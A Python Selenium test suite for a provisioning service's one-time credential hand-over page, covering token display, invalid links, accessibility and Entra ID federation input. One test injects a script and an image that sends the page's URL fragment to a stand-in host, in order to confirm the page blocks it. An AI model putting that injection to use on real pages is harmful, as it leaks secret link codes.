"""The hand-over page, as an administrator uses it."""

from __future__ import annotations

import json
from dataclasses import dataclass, replace
from typing import Any

import httpx
import pytest
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from rollcall.model.account_link import LOCAL
from rollcall.storage.handover_items import HandoverItems
from tests.browser.conftest import DESKTOP, LAPTOP, PHONE, Browser
from tests.command import rollcall
from tests.conftest import Server, Tenant


@dataclass(frozen=True)
class Link:
    """A hand-over link of a tenant."""

    url: str
    tenant: Tenant

    @property
    def code(self) -> str:
        return self.url.partition("#")[2]


@pytest.fixture
def link(server: Server, tenant: Tenant) -> Link:
    answer = rollcall(server.state, "handover", tenant.name, "--json")
    return Link(json.loads(answer.stdout)["link"], tenant)


def choose(browser: Browser, way: str) -> None:
    """Choose a sign-in method."""
    (choice,) = browser.all(f"[name=way][value={way}]")
    choice.click()


def unfold(browser: Browser) -> None:
    """Open all details that can be seen."""
    for summary in browser.all("summary"):
        if summary.is_displayed():
            summary.click()


def pressed(browser: Browser, link: Link, size: tuple[int, int] = DESKTOP) -> str:
    """Choose the bearer token, press the button and return the token."""
    browser.open(link.url, size)
    choose(browser, "token")
    browser.press("show")
    browser.until(lambda: browser.text("token"), "the token is shown")
    browser.until(lambda: browser.text("connection"), "the connection is shown")
    return browser.text("token")


def test_nothing_secret_is_there_before_the_button_is_pressed(
    browser: Browser, link: Link, server: Server
) -> None:
    httpx.get(link.url)
    browser.open(link.url)

    assert "rollcall_" not in browser.driver.page_source
    assert browser.element("show").is_displayed()
    assert browser.text("opens").startswith("The button works until")
    assert [each.label for each in server.services.tenants.show(link.tenant.name).tokens] == [
        "first"
    ]
    browser.picture("handover-1-ready")


def test_a_press_shows_endpoint_and_token_which_work(browser: Browser, link: Link) -> None:
    token = pressed(browser, link)

    assert browser.text("url") == link.tenant.url
    answer = httpx.get(f"{browser.text('url')}/Users", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200
    assert "Shown this once and kept nowhere." in browser.text("once")
    browser.picture("handover-2-shown")


@pytest.mark.parametrize("field", ["url", "token"])
def test_a_press_of_copy_copies(field: str, browser: Browser, link: Link) -> None:
    pressed(browser, link)
    (button,) = browser.all(f"[data-copy={field}]")
    button.click()
    browser.until(lambda: button.text == "Copied", "it says so")

    assert browser.clipboard(link.url.partition("/handover")[0]) == browser.text(field)
    assert (browser.element("said").get_attribute("textContent") or "").endswith("is copied.")


def test_the_second_visit_shows_the_steps_and_never_the_token(browser: Browser, link: Link) -> None:
    token = pressed(browser, link)
    browser.open(link.url)

    assert token not in browser.driver.page_source
    assert not browser.element("show").is_displayed()
    assert browser.text("url") == link.tenant.url
    assert "kept nowhere" in browser.text("gone")
    assert "waiting for Entra ID" in browser.text("signal-test")
    assert len(browser.all(".steps > li")) == 17
    browser.driver.back()
    browser.driver.forward()
    browser.until(lambda: browser.text("gone"), "the page is there again")
    assert token not in browser.driver.page_source
    browser.picture("handover-3-second-visit")


@pytest.mark.parametrize("how", ["expired", "replaced", "forged", "cut", "without a code"])
def test_a_link_that_is_not_valid_says_so_and_reveals_nothing(
    how: str, browser: Browser, link: Link, server: Server
) -> None:
    url = {
        "expired": link.url,
        "replaced": link.url,
        "forged": link.url[:-46] + "0" * 46,
        "cut": link.url[:-3],
        "without a code": link.url.partition("#")[0],
    }[how]
    if how == "expired":
        store = HandoverItems(server.services.table, link.tenant.name)
        store.create(replace(next(store.all()), opens_until="2026-01-01T00:00:00.000Z"))
    else:
        rollcall(server.state, "handover", link.tenant.name)

    browser.open(url)

    assert browser.text("problem-title") == "This link is not valid"
    assert "Ask whoever sent you this link for a new link." in browser.text("problem")
    assert not browser.element("page").is_displayed()
    assert link.tenant.name not in browser.driver.find_element("tag name", "body").text
    assert browser.violations() == []
    browser.picture("handover-5-not-valid")


@pytest.mark.parametrize("dark", [False, True])
def test_the_page_is_accessible(dark: bool, browser: Browser, link: Link) -> None:
    browser.open(link.url, dark=dark)
    assert browser.violations() == []

    choose(browser, "token")
    browser.press("show")
    browser.until(lambda: browser.text("token"), "the token is shown")
    unfold(browser)

    assert browser.violations() == []
    browser.picture(f"handover-6-{'dark' if dark else 'light'}")


def test_it_can_be_used_by_keyboard_alone(browser: Browser, link: Link) -> None:
    browser.open(link.url)

    def keys(*pressed: str) -> None:
        ActionChains(browser.driver).send_keys(*pressed).perform()

    def focused() -> Any:
        return browser.driver.switch_to.active_element

    for _ in range(4):
        keys(Keys.TAB)
        if focused().get_attribute("name") == "way":
            break
    keys(Keys.ARROW_DOWN, Keys.ARROW_DOWN, Keys.TAB)
    assert focused().get_attribute("id") == "show"
    keys(Keys.ENTER)
    browser.until(lambda: browser.text("token"), "the token is shown")
    assert focused().text == "Connection details"
    keys(*[Keys.TAB] * 4, Keys.ENTER)

    assert focused().get_attribute("aria-label") == "Copy the Secret Token"
    browser.until(lambda: focused().text == "Copied", "it says so")


def test_on_a_phone_nothing_is_wider_than_the_screen(browser: Browser, link: Link) -> None:
    pressed(browser, link, PHONE)

    width = browser.driver.execute_script("return document.documentElement.scrollWidth")
    assert width == PHONE[0]
    for button in (*browser.all(".copy"), *browser.all(".steps input")):
        # WCAG 2.2, target size
        assert not button.is_displayed() or min(button.size.values()) >= 24
    assert browser.violations() == []
    browser.picture("handover-7-phone")


def test_neither_code_nor_token_is_in_a_url_and_nothing_is_loaded_from_elsewhere(
    browser: Browser, link: Link
) -> None:
    token = pressed(browser, link)

    asked = browser.requests()
    urls = [each["url"] for each in asked if not each["url"].startswith("data:")]
    origin = link.url.partition("/handover")[0]
    assert {each.removeprefix(origin) for each in urls} == {
        "/handover", "/handover/status", "/handover/token",
    }  # fmt: skip
    assert not any(each["headers"].get("Referer") for each in asked), asked
    secret = link.code.partition(".")[2]
    assert not any(secret in url or token in url for url in urls)
    assert browser.complaints() == []


def test_what_is_injected_into_the_page_does_not_run(browser: Browser, link: Link) -> None:
    browser.open(link.url)
    browser.driver.execute_script(
        """
        const script = document.createElement("script");
        script.textContent = "document.title = 'run'";
        document.body.append(script);
        const image = document.createElement("img");
        image.src = "https://elsewhere.invalid/?" + location.hash;
        document.body.append(image);
        """
    )
    browser.until(lambda: len(complaints := browser.complaints()) > 1 or complaints, "it complains")

    assert browser.driver.title != "run"
    assert not any("elsewhere" in each["url"] for each in browser.requests())


def test_ticks_are_kept_in_the_browser(browser: Browser, link: Link) -> None:
    browser.open(link.url)
    boxes = browser.all(".steps input")
    for number in (0, 1, 3):
        boxes[number].click()
    assert browser.text("progress") == "3 of 17 done"

    browser.open(link.url)

    assert browser.text("progress") == "3 of 17 done"
    assert [each.is_selected() for each in browser.all(".steps input")[:4]] == [
        True, True, False, True,
    ]  # fmt: skip


def test_it_warns_while_no_template_applies_to_all_users(
    browser: Browser, link: Link, server: Server, tmp_path: Any
) -> None:
    browser.open(link.url)
    assert "No New User Template yet" in browser.text("no-template")

    file = tmp_path / "template.json"
    file.write_text(json.dumps({"name": "all", "users": "all", "workAreas": {"intro": "read"}}))
    assert rollcall(server.state, "templates", "set", link.tenant.name, str(file)).returncode == 0
    browser.open(link.url)

    assert browser.text("no-template") == ""


def test_it_says_when_the_tenant_is_disabled_and_when_the_token_is_revoked(
    browser: Browser, link: Link, server: Server
) -> None:
    pressed(browser, link)
    (token,) = [
        each.id
        for each in server.services.tenants.show(link.tenant.name).tokens
        if each.label == "hand-over"
    ]
    server.services.tokens(link.tenant.name).revoke(token)
    server.services.tenants.disable(link.tenant.name)

    browser.open(link.url)

    assert "Provisioning is switched off" in browser.text("closed")
    assert "does not work any more" in browser.text("dead")


def test_accounts_count_when_the_identity_provider_has_created_or_linked_them(
    browser: Browser, link: Link, server: Server
) -> None:
    directory = server.services.directory(link.tenant.name)
    for number in range(8):
        directory.users.create({"userName": f"u{number}"}, link=LOCAL)
    token = pressed(browser, link)

    assert "waiting for Entra ID" in browser.text("signal-test")
    assert "none yet" in browser.text("signal-accounts")
    assert browser.element("signal-accounts").get_attribute("class") == ""

    with Tenant(link.tenant.name, link.tenant.url, token).client() as client:
        assert client.get("/Users").status_code == 200
        browser.open(link.url)
        assert browser.element("signal-test").get_attribute("class") == "done"
        assert browser.element("signal-accounts").get_attribute("class") == "waiting"
        assert "none yet" in browser.text("signal-accounts")

        assert client.post("/Users", json={"userName": "new"}).status_code == 201
        browser.open(link.url)
    assert browser.element("signal-accounts").get_attribute("class") == "done"
    assert "1 user, 0 groups" in browser.text("signal-accounts")


def test_users_of_before_do_not_count_before_the_first_request(
    browser: Browser, link: Link, api: httpx.Client
) -> None:
    assert api.post("/Users", json={"userName": "ann"}).status_code == 201
    pressed(browser, link)

    assert "waiting for Entra ID" in browser.text("signal-test")
    assert browser.element("signal-accounts").get_attribute("class") == ""


def test_people_with_two_accounts_are_a_number_and_no_name(
    browser: Browser, link: Link, server: Server
) -> None:
    directory = server.services.directory(link.tenant.name)
    directory.users.create({"userName": "asmith@x.test", "displayName": "Alice Smith"}, link=LOCAL)
    token = pressed(browser, link)
    assert browser.text("duplicates") == ""

    new = {"userName": "alice.smith@x.test", "displayName": "Alice Smith"}
    with Tenant(link.tenant.name, link.tenant.url, token).client() as client:
        assert client.post("/Users", json=new).status_code == 201
    browser.open(link.url)

    assert "1 person seems to have two accounts" in browser.text("duplicates")
    assert "Smith" not in browser.driver.page_source
    assert browser.violations() == []
    browser.picture("handover-8-duplicates")


TENANT = "ce5f061f-abe6-4e40-9615-301f87bcb7f0"
PASTED = {
    "issuer": f"https://login.microsoftonline.com/{TENANT}/v2.0",
    "jwks": f"https://login.microsoftonline.com/{TENANT}/discovery/v2.0/keys",
    "subject": "d2f8ee76-c549-45b8-a143-f5b640669704",
    "audience": "api://b5ba7a93-4452-4522-aeb4-a2b5da870c16/.default",
}


def paste(browser: Browser, **values: str) -> None:
    """Paste the values of a trust."""
    for name, value in (PASTED | values).items():
        entry = browser.element(name)
        entry.clear()
        entry.send_keys(value)


@pytest.mark.parametrize("size", [DESKTOP, PHONE])
def test_a_client_and_its_secret_are_shown_once(
    size: tuple[int, int], browser: Browser, link: Link
) -> None:
    browser.open(link.url, size)
    choose(browser, "client_secret")
    browser.picture(f"handover-client-1-{size[0]}")
    browser.press("show")
    browser.until(lambda: browser.text("token"), "the secret is shown")
    browser.until(lambda: browser.text("connection"), "the connection is shown")
    secret, client = browser.text("token"), browser.text("client-id")

    assert browser.text("url") == link.tenant.url
    assert browser.text("token-url") == link.tenant.url.replace("/v2", "/oauth2/token")
    assert browser.text("token-label") == "Client Secret"
    assert "The secret is shown this once" in browser.text("once")
    browser.picture(f"handover-client-2-{size[0]}")
    assert (browser.overflow(), browser.broken(), browser.violations()) == (0, [], [])

    browser.open(link.url, size)
    assert secret not in browser.driver.page_source
    assert browser.text("client-id") == client
    assert "kept nowhere" in browser.text("gone")
    assert browser.violations() == []


@pytest.mark.parametrize("size", [DESKTOP, PHONE])
def test_a_trusted_identity_needs_no_secret(
    size: tuple[int, int], browser: Browser, link: Link, server: Server
) -> None:
    browser.open(link.url, size)
    browser.picture(f"handover-federation-1-{size[0]}")
    assert browser.violations() == []
    paste(browser, issuer=f" {PASTED['issuer']}/ ")
    browser.press("show")
    browser.until(lambda: browser.text("client-id"), "the client is shown")
    browser.until(lambda: browser.text("connection"), "the connection is shown")
    client = browser.text("client-id")

    assert browser.text("token-url") == link.tenant.url.replace("/v2", "/oauth2/token")
    assert not browser.element("token").is_displayed()
    unfold(browser)
    assert PASTED["issuer"] in browser.text("trusted")
    assert "The issuer is read as" in browser.text("notes")
    (kept,) = server.services.tenants.show(link.tenant.name).clients
    assert kept.trust is not None
    assert (kept.id, kept.trust.subject) == (client, PASTED["subject"])
    browser.picture(f"handover-federation-2-{size[0]}")
    assert (browser.overflow(), browser.broken(), browser.violations()) == (0, [], [])

    browser.open(link.url, size)
    assert browser.text("client-id") == client
    unfold(browser)
    assert PASTED["issuer"] in browser.text("trusted")


MISTAKES = [
    ("issuer", " ", "Paste the value that Entra ID shows."),
    ("subject", PASTED["issuer"], "are they swapped?"),
    ("audience", "my application", "an application's id"),
    ("jwks", PASTED["jwks"].replace("ce5f", "0000"), "The JWKS URL names the tenant 0000061f"),
]


@pytest.mark.parametrize(("field", "value", "sentence"), MISTAKES)
def test_a_mistake_is_named_beside_its_field(
    field: str, value: str, sentence: str, browser: Browser, link: Link
) -> None:
    browser.open(link.url)
    paste(browser, **{field: value})
    browser.press("show")
    browser.until(lambda: browser.text(f"{field}-mistake"), "the mistake is named")

    assert sentence in browser.text(f"{field}-mistake")
    assert browser.driver.switch_to.active_element.get_attribute("id") == field
    assert browser.element(field).get_attribute("aria-invalid") == "true"
    browser.picture(f"handover-mistake-{field}")
    assert browser.violations() == []

    # It has used nothing up.
    paste(browser)
    browser.press("show")
    browser.until(lambda: browser.text("client-id"), "the client is shown")


def test_the_steps_are_those_of_the_chosen_method(browser: Browser, link: Link) -> None:
    browser.open(link.url)
    named = {}
    for way in ("federation", "client_secret", "token"):
        choose(browser, way)
        named[way] = browser.text("main")

    assert "Select Workload Identity" in named["federation"]
    assert "OAuth2 client credentials grant" in named["client_secret"]
    assert "Bearer authentication" in named["token"]
    assert "Secret Token" not in named["federation"] + named["client_secret"]


def test_links_within_the_page_keep_the_code(browser: Browser, link: Link) -> None:
    browser.open(link.url)
    browser.press("to-credentials")

    assert browser.driver.current_url == link.url


@pytest.mark.parametrize("size", [LAPTOP, PHONE])
def test_no_word_is_broken_and_nothing_pushed_out(
    size: tuple[int, int], browser: Browser, link: Link
) -> None:
    pressed(browser, link, size)
    unfold(browser)
    browser.picture(f"handover-{size[0]}")

    assert browser.overflow() == 0
    assert browser.broken() == []
